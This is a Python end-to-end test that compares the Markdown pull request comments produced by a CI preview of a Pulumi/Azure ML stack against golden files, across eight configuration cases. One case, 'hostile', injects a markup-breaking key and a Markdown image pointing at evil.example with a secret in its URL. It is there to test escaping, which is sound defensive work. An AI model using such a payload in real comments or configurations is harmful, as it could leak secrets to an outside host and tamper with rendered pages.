"""The comments of eight previews that the real engine made in a sandbox, against the files in comments/.

Run with UPDATE_COMMENTS=1 to write these files again. Names that contain random characters, and revisions, whose names
are digests of files, are written there as their forms.
"""

import os
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.rehearsal import Rehearsal

pytestmark = pytest.mark.long(part="workflows")

FOLDER = Path(__file__).parent / "comments"
FORMS = (
    (r"digits[0-9a-f]{8}", "digitsXXXXXXXX"),
    (r"\bmlp-[0-9a-f]{8}", "mlp-XXXXXXXX"),
    (r"aml-cluster-[0-9a-f]{5}x", "aml-cluster-XXXXXx"),
    (r"commit `[0-9a-f]{8}`", "commit `XXXXXXXX`"),
    (r"((Pulumi|pulumi-azure-native|azure-ai-ml) )[0-9.]+", r"\1X"),
    (r"(https:<!-- -->//|scoring URI )\S+", r"\1X"),
)


def _deployment(config: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = config["endpoints"]["digits"]["deployments"]["mlp"]
    return found


def _renamed(config: dict[str, Any]) -> None:
    config["endpoints"]["letters"] = config["endpoints"].pop("digits")


def _hostile(config: dict[str, Any]) -> None:
    _deployment(config)["environmentVariables"] = {"</details>@octocat|`": "![x](https://evil.example/?sig=secret)"}


CASES: dict[str, Callable[[dict[str, Any]], object]] = {
    "nothing": lambda _: None,
    "release": lambda config: _deployment(config).update(miniBatchSize=20),
    "replaced": lambda config: config["cluster"].update(vmSize="STANDARD_D2S_V3"),
    "removed": _renamed,
    "policies": lambda config: config["cluster"].update(minNodes=1, maxNodes=101),
    "refused": lambda config: config["endpoints"]["digits"].update(pin="mlp-00000000"),
    "failed": lambda config: config["cluster"].update(maxNodes=0),
    "hostile": _hostile,
}


@pytest.fixture(name="once", scope="module")
def _once(deployed_once: Rehearsal, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Rehearsal]:
    """Return a deployed stack for all cases: a preview changes nothing."""
    rehearsal = deployed_once.copy_to(tmp_path_factory.mktemp("commented"))
    rehearsal.start_server()
    yield rehearsal
    rehearsal.stop()


@pytest.mark.parametrize("case", CASES)
def test_the_comment_of_a_preview(once: Rehearsal, case: str, tmp_path: Path) -> None:
    file = once.folder / "Pulumi.dev.yaml"
    before = file.read_bytes()
    try:
        once.configure(CASES[case])
        said = tmp_path / "comment.md"
        done = once.run("python", "-m", "ci", "preview", "--stack", "dev", "--output", str(said))
    finally:
        file.write_bytes(before)
    assert done.code == (1 if case in ("policies", "refused", "failed") else 0), done.text
    text = said.read_text(encoding="utf-8")
    for pattern, form in FORMS:
        text = re.sub(pattern, form, text)
    golden = FOLDER / f"{case}.md"
    if os.environ.get("UPDATE_COMMENTS"):
        golden.write_text(text, encoding="utf-8")
    assert text == golden.read_text(encoding="utf-8")
